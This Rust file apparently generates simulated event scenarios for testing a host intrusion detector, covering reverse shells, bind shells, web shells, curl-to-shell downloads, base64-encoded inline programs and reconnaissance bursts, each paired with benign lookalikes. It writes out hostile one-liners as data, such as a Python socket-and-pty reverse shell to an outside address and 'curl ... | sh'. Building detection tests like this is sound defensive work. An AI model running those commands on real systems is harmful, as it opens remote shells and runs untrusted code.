//! Shells that others than the user of the machine have, and what they do first.

use super::stage::{Image, Link, MILLISECOND, SECOND, Stage, WRITE};
use super::{Plant, plant};

pub(super) const PLANTS: &[Plant] = &[
    plant("reverse_shell", reverse_shell, no_reverse_shell),
    plant("bind_shell", bind_shell, no_bind_shell),
    plant("web_shell", web_shell, no_web_shell),
    plant("download_to_shell", download_to_shell, no_download_to_shell),
    plant("script_interpreter_inline", inline_program, no_inline_program),
    plant("discovery_burst", discovery_burst, no_discovery_burst),
];

fn bash(argv: &str) -> Image {
    Image::new("/usr/bin/bash", "").path("/bin/bash").argv(argv)
}

fn sh(argv: &str) -> Image {
    Image::new("/usr/bin/dash", "").path("/bin/sh").argv(argv)
}

fn python(argv: impl Into<String>) -> Image {
    Image::new("/usr/bin/python3.11", "").path("/usr/bin/python3").argv(argv)
}

/// A shell whose orders come from a machine that was called.
fn reverse_shell(stage: &mut Stage) {
    let shell = stage.shell(33);
    let remote = stage.outside();
    let port = stage.random.pick(&[443, 8443, 8081, 53_211]);
    let orders = Link::to(remote, port).bytes(9_000, 400).open();
    match stage.turn {
        // The program that called becomes the shell.
        0 => {
            let child = stage.start(shell, Image::new("/usr/bin/perl", "/srv/up/r.pl"));
            stage.link(child, &orders);
            stage.wait_between(SECOND / 10, SECOND);
            let image = match stage.random.below(3) {
                0 => sh("sh -i"),
                1 => Image::new("/usr/bin/busybox", "").path("/bin/sh").argv("sh -i"),
                // A copy under another name.
                _ => Image::new("/srv/up/agent", "").argv("agent"),
            };
            stage.exec(child, image);
            stage.wait_between(5 * SECOND, 40 * SECOND);
            stage.finding(child);
            stage.exit(child, 0);
        }
        // The shell calls by itself.
        1 => {
            let child = stage.start(shell, bash("bash /srv/up/r.sh"));
            stage.wait(SECOND);
            stage.link(child, &orders);
            stage.wait_between(5 * SECOND, 40 * SECOND);
            stage.finding(child);
            stage.exit(child, 0);
        }
        // A program passes on what comes.
        2 => {
            let relay = stage.start(shell, python("python3 /srv/up/r.py"));
            stage.link(relay, &orders);
            stage.wait_between(2 * SECOND, 8 * SECOND);
            let child = stage.start(relay, bash("bash -i"));
            stage.wait_between(5 * SECOND, 40 * SECOND);
            stage.finding(child);
            stage.exit(child, 0);
            stage.exit(relay, 0);
        }
        // A pipe with a tool that passes on.
        _ => {
            let argv = format!("nc {} {port}", orders.remote);
            let relay = stage.start(shell, Image::new("/usr/bin/nc.openbsd", "").argv(argv));
            let child = stage.start(shell, sh("sh -i"));
            stage.link(relay, &orders);
            stage.wait_between(5 * SECOND, 40 * SECOND);
            stage.finding(child);
            // What the tool received is what the shell runs.
            stage.finding_of("download_to_shell", child);
            stage.exit(child, 0);
            stage.exit(relay, 0);
        }
    }
}

/// Health checks, terminals of those who have logged in, scripts of programs that have called somebody.
fn no_reverse_shell(stage: &mut Stage) {
    // It called, closed, and runs a script later.
    let shell = stage.shell(1000);
    let remote = stage.outside();
    let call = Link::to(remote.clone(), 443);
    let agent = stage.start(shell, python("python3 /srv/tools/agent.py"));
    stage.link(agent, &call.clone().open());
    stage.wait(SECOND);
    let script = stage.run(agent, sh("sh -c 'df -h'"));
    // One that others started long after.
    stage.wait(70 * SECOND);
    let late = stage.run(agent, bash("bash -i"));
    stage.exit(agent, 0);
    // A connection that had ended, and programs that are no shells.
    let child = stage.start(shell, python("python3 /srv/tools/fetch.py"));
    stage.link(child, &call.clone().lasting(40 * MILLISECOND));
    stage.wait(SECOND);
    stage.exec(child, sh("sh /srv/tools/next.sh"));
    stage.exit(child, 0);
    let git = stage.start(shell, python("python3 /srv/tools/pull.py"));
    stage.link(git, &call.clone().open());
    stage.exec(git, Image::new("/usr/bin/git", "fetch"));
    stage.exit(git, 0);
    // A shell that asks whether its own machine is well, or waits for a port.
    let health = stage.start(shell, bash("bash /srv/tools/health.sh"));
    stage.wait(20 * MILLISECOND);
    stage.link(health, &Link::to("127.0.0.1", 8080));
    stage.link(health, &Link::to(remote.clone(), 5432).bytes(0, 0));
    stage.exit(health, 0);
    let browser = stage.start(shell, Image::new("/usr/bin/curl", format!("https://{remote}/")));
    stage.wait(3 * SECOND);
    stage.link(browser, &call.clone().open());
    let beside = stage.run(shell, sh("sh -i"));
    stage.exit(browser, 0);
    let login = stage.login(1000);
    stage.wait(SECOND);
    for who in [script, late, child, git, health, beside, login] {
        stage.lookalike(who);
    }
}

/// A shell that talks to whoever connected to a port.
fn bind_shell(stage: &mut Stage) {
    let shell = stage.shell(33);
    let remote = stage.outside();
    let from = stage.random.between(40_000, 60_000) as i32;
    let port = stage.random.between(7_000, 7_900) as i32;
    let exe = if stage.turn.is_multiple_of(2) { "/srv/up/gate" } else { "/srv/up/door" };
    let gate = stage.start(shell, Image::new(exe, ""));
    stage.link(gate, &Link::listener(port));
    stage.wait_between(SECOND, 20 * SECOND);
    let orders = Link::from(remote, from, port).bytes(9_000, 400).open();
    if stage.turn.is_multiple_of(2) {
        let child = stage.fork(gate);
        stage.link(child, &orders);
        stage.exec(child, sh("sh"));
        stage.wait_between(5 * SECOND, 40 * SECOND);
        stage.finding(child);
        stage.exit(child, 0);
    } else {
        // What the shell starts has the connection.
        let begin = stage.now;
        stage.wait(200 * MILLISECOND);
        let child = stage.start(gate, bash("bash"));
        stage.wait(SECOND);
        let cat = stage.start(child, Image::new("/usr/bin/cat", ""));
        let opener = stage.pid(gate);
        stage.socket(cat, begin, &orders.opened_by(opener));
        stage.wait_between(5 * SECOND, 40 * SECOND);
        stage.finding(child);
        stage.exit(cat, 0);
        stage.exit(child, 0);
    }
    stage.exit(gate, 0);
}

/// Super-servers that start a script for a connection, and programs that have served one before.
fn no_bind_shell(stage: &mut Stage) {
    let inetd = stage.start(stage.cast.systemd, Image::new("/usr/sbin/xinetd", "-dontfork"));
    stage.link(inetd, &Link::listener(6_556));
    let from = |port| Link::from("10.0.0.77", port, 6_556).bytes(4_000, 10);
    let script = stage.fork(inetd);
    stage.link(script, &from(40_001).lasting(SECOND));
    let image = Image::new("/usr/bin/dash", "").path("/usr/bin/check_agent");
    stage.exec(script, image.argv("/bin/sh /usr/bin/check_agent"));
    stage.wait(200 * MILLISECOND);
    stage.exit(script, 0);
    let git = stage.fork(inetd);
    stage.link(git, &from(40_002).lasting(SECOND));
    stage.exec(git, Image::new("/usr/bin/git", "daemon --inetd"));
    stage.exit(git, 0);
    // A connection that has ended, and a shell that serves one later.
    let after = stage.fork(inetd);
    stage.link(after, &from(40_003).lasting(10 * MILLISECOND));
    stage.wait(SECOND);
    stage.exec(after, sh("sh /srv/tools/after.sh"));
    stage.exit(after, 0);
    let local = stage.fork(inetd);
    let unix = Link { local: String::new(), ..Link::from("/run/agent.sock", -1, -1) };
    stage.link(local, &unix.protocol("unix_stream").open());
    stage.exec(local, sh("sh"));
    stage.wait(100 * MILLISECOND);
    stage.exit(local, 0);
    for who in [script, git, after, local] {
        stage.lookalike(who);
    }
    stage.exit(inetd, 0);
}

/// A server of pages starts programs that it has no use for.
fn web_shell(stage: &mut Stage) {
    let remote = stage.outside();
    let from = stage.random.between(40_000, 60_000) as i32;
    let mut request = Link::from(remote, from, 443).bytes(600, 900);
    let proper = stage.turn.is_multiple_of(2);
    let server = match proper {
        true if stage.turn == 2 => {
            // PHP is asked over a socket of the machine's own.
            let unix = Link { local: "/run/php.sock".to_string(), ..Link::from("", -1, -1) };
            request = unix.protocol("unix_stream");
            stage.start(stage.cast.php, Image::new("/usr/sbin/php-fpm8.2", ""))
        }
        true => {
            let image = Image::new("/usr/sbin/apache2", "-k start").uid(33);
            stage.start(stage.cast.systemd, image)
        }
        false => stage.start(stage.cast.systemd, python("python3 /srv/app/worker.py").uid(998)),
    };
    stage.wait(SECOND);
    stage.link(server, &request);
    stage.wait_between(SECOND / 100, SECOND / 5);
    if proper {
        let shell = stage.start(server, sh("sh -c 'id; uname -a'"));
        stage.run(shell, Image::new("/usr/bin/id", ""));
        stage.run(shell, Image::new("/usr/bin/uname", "-a"));
        stage.exit(shell, 0);
    } else {
        for (exe, args) in [("/usr/bin/whoami", ""), ("/usr/bin/ss", "-tlnp")] {
            let shell = stage.start(server, sh(&format!("sh -c '{exe} {args}'")));
            stage.run(shell, Image::new(exe, args));
            stage.exit(shell, 0);
            stage.wait_between(SECOND, 9 * SECOND);
        }
    }
    stage.finding(server);
    stage.wait(SECOND);
    stage.exit(server, 0);
}

/// Servers that start helpers of their own, scripts of gateways, and one tool now and then.
fn no_web_shell(stage: &mut Stage) {
    let request = Link::from("10.0.0.77", 40_100, 443).bytes(600, 900);
    let nginx = Image::new("/usr/sbin/nginx", "-g 'daemon off;'");
    let nginx = stage.start(stage.cast.systemd, nginx);
    // Before it serves.
    stage.run(nginx, sh("sh -c 'nginx -t'"));
    stage.link(nginx, &request);
    stage.run(nginx, Image::new("/usr/bin/rotatelogs", "/var/log/nginx/access.log 86400"));
    let script = Image::new("/usr/bin/dash", "").path("/usr/lib/cgi-bin/status");
    stage.run(nginx, script.argv("/bin/sh /usr/lib/cgi-bin/status"));
    let app = stage.start(stage.cast.systemd, python("python3 /srv/app/report.py").uid(998));
    stage.link(app, &request);
    for _ in 0..2 {
        let shell = stage.start(app, sh("sh -c 'hostname -f'"));
        stage.run(shell, Image::new("/usr/bin/hostname", "-f"));
        stage.exit(shell, 0);
    }
    // Who asks others serves nobody.
    let client = stage.start(stage.cast.systemd, python("python3 /srv/app/inventory.py"));
    stage.link(client, &Link::to("10.0.3.7", 5432));
    stage.run(client, Image::new("/usr/bin/uname", "-a"));
    stage.run(client, Image::new("/usr/bin/lscpu", ""));
    let login = stage.login(1000);
    stage.run(login, Image::new("/usr/bin/id", ""));
    stage.run(login, Image::new("/usr/bin/uname", "-a"));
    for who in [nginx, app, client, login] {
        stage.lookalike(who);
    }
}

/// What came over the network is run.
fn download_to_shell(stage: &mut Stage) {
    let shell = stage.shell(1000);
    let remote = stage.outside();
    let size = stage.random.between(2_000, 9_000);
    let link = Link::to(remote.clone(), 443).bytes(500, size).lasting(300 * MILLISECOND);
    let curl = Image::new("/usr/bin/curl", format!("-fsSL https://{remote}/get"));
    match stage.turn {
        // curl ... | sh
        0 => {
            let fetch = stage.start(shell, curl);
            let argv = stage.random.pick(&["sh", "bash -s -- --yes", "bash"]);
            let image = if argv == "sh" { sh(argv) } else { bash(argv) };
            let child = stage.start(shell, image);
            stage.link(fetch, &link);
            stage.wait(400 * MILLISECOND);
            stage.exit(fetch, 0);
            stage.finding(child);
            stage.wait(SECOND);
            stage.exit(child, 0);
        }
        // sh -c "$(curl ...)"
        1 => {
            let fetch = stage.start(shell, curl);
            stage.link(fetch, &link);
            stage.wait(400 * MILLISECOND);
            stage.exit(fetch, 0);
            let text = "echo step >> /srv/log; ".repeat(14);
            let child = stage.start(shell, sh(&format!("sh -c '{text}'")));
            stage.finding(child);
            stage.wait(SECOND);
            stage.exit(child, 0);
        }
        // A file that is run later.
        turn => {
            let path = stage.fresh("/srv/get/run");
            let fetch = stage.start(shell, curl);
            stage.link(fetch, &link);
            stage.write(fetch, path.clone());
            stage.wait(400 * MILLISECOND);
            stage.exit(fetch, 0);
            stage.wait_between(SECOND, 30 * SECOND);
            let image = match turn {
                2 => Image::new(path, ""),
                _ => bash(&format!("bash {path}")),
            };
            let child = stage.start(shell, image);
            stage.finding(child);
            stage.wait(SECOND);
            stage.exit(child, 0);
        }
    }
}

/// Downloads that nobody runs, package managers, and programs that replace themselves.
fn no_download_to_shell(stage: &mut Stage) {
    let shell = stage.shell(1000);
    let remote = stage.outside();
    let link = Link::to(remote.clone(), 443).bytes(500, 5_000).lasting(300 * MILLISECOND);
    let curl = Image::new("/usr/bin/curl", format!("-fsSL https://{remote}/get"));
    // curl ... | tar x, with a shell that has a script of its own.
    let fetch = stage.start(shell, curl.clone());
    let tar = stage.start(shell, Image::new("/usr/bin/tar", "x"));
    let job = stage.start(shell, sh("sh /srv/job.sh"));
    stage.link(fetch, &link);
    stage.wait(SECOND / 2);
    for who in [tar, job, fetch] {
        stage.exit(who, 0);
    }
    stage.lookalike(tar);
    stage.lookalike(job);
    // A short command right after.
    let list = stage.run(shell, sh("sh -c 'ls -l'"));
    stage.lookalike(list);
    stage.wait(10 * SECOND);
    // What received nothing.
    let fetch = stage.start(shell, curl.clone());
    stage.link(fetch, &link.clone().bytes(100, 0));
    let reads = stage.run(shell, sh("sh"));
    stage.exit(fetch, 0);
    stage.lookalike(reads);
    stage.wait(10 * SECOND);
    // Beside a shell: a server that is sent something, one that speaks to its machine only, and one that asks for a name.
    let beside = [
        ("/usr/lib/ops/hook", Link::from(remote.clone(), 40_000, 8_080).bytes(90, 5_000)),
        (
            "/usr/bin/docker",
            Link { remote: "/run/docker.sock".to_string(), ..Link::to("", -1) }
                .protocol("unix_stream"),
        ),
        ("/usr/bin/host", Link::to("10.0.0.2", 53).protocol("udp")),
    ];
    for (exe, link) in beside {
        let program = stage.start(shell, Image::new(exe, ""));
        let reads = stage.start(shell, sh("sh"));
        stage.link(program, &link.lasting(100 * MILLISECOND));
        stage.wait(SECOND);
        stage.exit(program, 0);
        stage.exit(reads, 0);
        stage.lookalike(reads);
        stage.wait(10 * SECOND);
    }
    // Files that it may not write, that it wrote before it called, and that were run before it wrote them.
    let denied = stage.fresh("/srv/get/denied");
    let before = stage.fresh("/srv/get/before");
    let after = stage.fresh("/srv/get/after");
    let ran = stage.run(shell, Image::new(after.clone(), ""));
    stage.lookalike(ran);
    let fetch = stage.start(shell, curl.clone());
    stage.write(fetch, before.clone());
    stage.wait(SECOND);
    stage.link(fetch, &link);
    stage.open_fails(fetch, denied.clone(), WRITE, 13);
    stage.write(fetch, "/dev/null");
    stage.write(fetch, after);
    stage.wait(SECOND);
    stage.exit(fetch, 0);
    for run in [Image::new(denied, ""), Image::new(before, ""), bash("bash /dev/null")] {
        let child = stage.run(shell, run);
        stage.lookalike(child);
    }
    stage.wait(10 * SECOND);
    // Two programs that a script has within itself, one after the other.
    let first = stage.start(shell, python("python3 -".to_string()));
    stage.wait(20 * MILLISECOND);
    stage.exit(first, 0);
    let second = stage.start(shell, python("python3 -".to_string()));
    stage.link(second, &link);
    stage.wait(SECOND);
    stage.exit(second, 0);
    stage.lookalike(first);
    stage.wait(10 * SECOND);
    // One that writes many files, of which one is run.
    let folder = stage.fresh("/srv/deps/d");
    let manager = stage.start(shell, Image::new("/usr/bin/npm-fetch", "install"));
    stage.link(manager, &link);
    for at in 0..8 {
        stage.write(manager, format!("{folder}/{at}/index.js"));
    }
    stage.wait(SECOND);
    stage.exit(manager, 0);
    let node = Image::new("/usr/bin/node", "").argv(format!("node {folder}/3/index.js"));
    let node = stage.run(shell, node);
    stage.lookalike(node);
    // A file that was there before, and an update of itself.
    let path = stage.fresh("/srv/get/tool");
    let tool = stage.start(shell, Image::new(path.clone(), ""));
    stage.link(tool, &link);
    stage.write(tool, path.clone());
    stage.wait(SECOND);
    stage.exec(tool, Image::new(path, "--updated"));
    stage.exit(tool, 0);
    stage.lookalike(tool);
    // A session starts a browser and a terminal at once, and later somebody opens a shell.
    let session = Image::new("/usr/libexec/gnome-session-binary", "");
    let session = stage.start(stage.cast.systemd, session.uid(1000));
    let browser = stage.start(session, Image::new("/usr/lib/firefox-esr/firefox-esr", ""));
    let terminal = stage.start(session, Image::new("/usr/libexec/gnome-terminal-server", ""));
    stage.link(browser, &link);
    stage.wait(90 * SECOND);
    let shell = stage.start(terminal, bash("bash"));
    stage.lookalike(shell);
}

/// Programs as arguments that decode themselves or tie a shell to a socket.
fn inline_program(stage: &mut Stage) {
    let shell = stage.shell(33);
    let text = stage.random.pick(&["aW1wb3J0IG9z", "cHJpbnQoMSk=", "b3MuZ2V0cGlkKCk="]);
    let address = stage.outside();
    let child = match stage.turn {
        0 => {
            // Much that is harmless stands before it.
            let long = "a = 1; ".repeat(stage.random.between(0, 400) as usize);
            let code = format!("{long}import base64; exec(base64.b64decode(\"{text}\"))");
            stage.run(shell, python(format!("python3 -c '{code}'")))
        }
        1 => stage.run(shell, bash(&format!("bash -c 'echo {text} | base64 -d | sh'"))),
        2 => {
            let code = format!(
                "import socket,os,pty;s=socket.socket();s.connect((\"{address}\",8443));\
                 os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"
            );
            stage.run(shell, python(format!("python3 -c '{code}'")))
        }
        _ => {
            let decoder = stage.start(shell, Image::new("/usr/bin/base64", "-d"));
            let child = stage.run(shell, sh("sh"));
            stage.exit(decoder, 0);
            child
        }
    };
    stage.finding(child);
}

/// Short programs as arguments, as people write them.
fn no_inline_program(stage: &mut Stage) {
    let shell = stage.shell(1000);
    let script = python("python3 /srv/exec.py base64 /srv/data/in.b64");
    let grep = Image::new("/usr/bin/grep", "").argv("grep -e 'exec(base64.b64decode(' -r /srv");
    let images = [
        python("python3 -c 'exec(open(\"x\").read())'"),
        python("python3 -c 'import base64; print(base64.b64decode(\"aWQ=\"))'"),
        python("python3 -c 'import socket; socket.create_connection((\"db\",5432))'"),
        bash("bash -c 'echo aWQ= | base64 -d | wc -c'"),
        script,
        grep,
    ];
    for image in images {
        let child = stage.run(shell, image);
        stage.lookalike(child);
    }
    let decoder = stage.start(shell, Image::new("/usr/bin/base64", "-d"));
    let beside = stage.run(shell, Image::new("/usr/bin/tar", "x"));
    let job = stage.run(shell, sh("sh /srv/job.sh"));
    stage.exit(decoder, 0);
    stage.wait(5 * SECOND);
    let later = stage.start(shell, sh("sh"));
    let encoder = stage.run(shell, Image::new("/usr/bin/base64", "/srv/data/in"));
    stage.exit(later, 0);
    for who in [beside, job, later, encoder] {
        stage.lookalike(who);
    }
}

const TOOLS: [(&str, &str); 9] = [
    ("/usr/bin/whoami", ""),
    ("/usr/bin/id", ""),
    ("/usr/bin/uname", "-a"),
    ("/usr/bin/ps", "aux"),
    ("/usr/bin/ip", "addr"),
    ("/usr/bin/ss", "-tulpn"),
    ("/usr/bin/last", ""),
    ("/usr/bin/lsblk", ""),
    ("/usr/bin/hostname", "-f"),
];

/// Somebody who came in new looks around.
fn discovery_burst(stage: &mut Stage) {
    let shell = stage.login(1000);
    let tools = stage.random.between(6, TOOLS.len() as i64 + 1) as usize;
    for (exe, args) in &TOOLS[..tools] {
        // A loop has a subshell for each.
        let parent = if stage.turn.is_multiple_of(2) { shell } else { stage.fork(shell) };
        let name = exe.rsplit('/').next().unwrap_or_default();
        let image = match stage.turn {
            2 => Image::new("/usr/bin/busybox", format!("{name} {args}")),
            _ => Image::new(*exe, args),
        };
        stage.run(parent, image);
        if parent != shell {
            stage.exit(parent, 0);
        }
        stage.wait_between(SECOND / 10, 3 * SECOND);
    }
    stage.finding(shell);
}

/// A few tools, many times, or over a long time.
fn no_discovery_burst(stage: &mut Stage) {
    let slow = stage.shell(1000);
    let few = stage.shell(1000);
    for (exe, args) in &TOOLS[..7] {
        stage.run(slow, Image::new(*exe, args));
        for (exe, args) in &TOOLS[..2] {
            stage.run(few, Image::new(*exe, args));
        }
        stage.wait(20 * SECOND);
    }
    let five = stage.shell(1000);
    for (exe, args) in &TOOLS[..5] {
        stage.run(five, Image::new(*exe, args));
    }
    stage.run(five, Image::new("/usr/bin/ls", "-l"));
    for who in [slow, few, five] {
        stage.lookalike(who);
    }
}
